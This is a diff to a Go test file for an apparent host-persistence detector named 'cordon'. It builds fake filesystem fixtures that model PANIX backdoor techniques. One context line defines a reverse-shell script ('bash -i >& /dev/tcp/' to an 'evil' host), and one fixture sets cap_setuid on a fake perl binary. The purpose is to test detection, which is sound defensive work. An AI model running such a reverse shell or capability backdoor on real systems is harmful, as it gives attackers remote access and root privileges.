@@ -3,9 +3,10 @@ package check_test
 import (
 	"os"
 	"os/exec"
-	"strings"
+	"strconv"
 
 	"cordon/internal/check"
+	"cordon/internal/testenv"
 )
 
 func osChown(p string, uid int) error { return os.Chown(p, uid, uid) }
@@ -20,12 +21,8 @@ const shellOut = "#!/bin/sh\nnohup bash -c 'bash -i >& /dev/tcp/" + evil + "/443
 func listener(tr *tree, pid int, line string, inode string) {
 	made := tr.made
 	tr.more("/proc/net/tcp", line+"\n")
-	tr.link("socket:["+inode+"]", "/proc/"+itoa(pid)+"/fd/5")
+	tr.link("socket:["+inode+"]", "/proc/"+strconv.Itoa(pid)+"/fd/5")
 	tr.made = made
-}
-
-func itoa(n int) string {
-	return strings.TrimSpace(strings.Join([]string{string(rune('0' + n/1000)), string(rune('0' + n/100%10)), string(rune('0' + n/10%10)), string(rune('0' + n%10))}, ""))
 }
 
 // panixRows are the 37 modules of PANIX (facts/host.md §2.1), each with the path and
@@ -44,8 +41,9 @@ var panixRows = []row{
 	}},
 	{"cap_backdoor", "privileges", check.High, "/usr/bin/perl", true, func(tr *tree) {
 		tr.file("/usr/bin/perl", "\x7fELF", 0o755)
-		if out, err := exec.Command("setcap", "cap_setuid+ep", tr.root+"/usr/bin/perl").CombinedOutput(); err != nil {
-			tr.t.Skipf("setcap: %v: %s", err, out)
+		testenv.Need(tr.t, "getcap") // the collector asks it
+		if out, err := exec.Command(testenv.Need(tr.t, "setcap"), "cap_setuid+ep", tr.root+"/usr/bin/perl").CombinedOutput(); err != nil {
+			tr.t.Fatalf("setcap: %v: %s", err, out)
 		}
 		tr.told = append(tr.told, "caps")
 	}},
